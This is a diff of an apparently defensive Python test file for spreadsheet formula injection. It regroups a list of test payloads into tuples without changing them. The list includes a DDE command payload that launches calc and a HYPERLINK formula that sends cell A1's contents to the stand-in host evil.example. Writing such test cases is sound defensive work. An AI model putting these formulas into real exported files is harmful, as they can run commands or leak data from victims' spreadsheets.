@@ -17,20 +17,8 @@ from tests.depth import each
 
 ROOT = Path(__file__).parents[2]
 FORMULAS = [
-    "=1+1",
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    "\n=1",
-    "  =1",
-    '"=1',
-    "'=1",
-    "' \"@x",
-    "\uff1d1",
-    "\ufeff=1",
-    '=HYPERLINK("http://evil.example?"&A1)',
+    *("=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", '"=1'),
+    *("'=1", "' \"@x", "\uff1d1", "\ufeff=1", '=HYPERLINK("http://evil.example?"&A1)'),
 ]
 BREAKS, SIGNS = tuple("\t\r\n"), tuple("=+-@\uff1d")
 hostile = st.text(st.sampled_from("=+-@\t\r\n '\",;1e.a\uff1d\u200b\ufeff"), max_size=8)
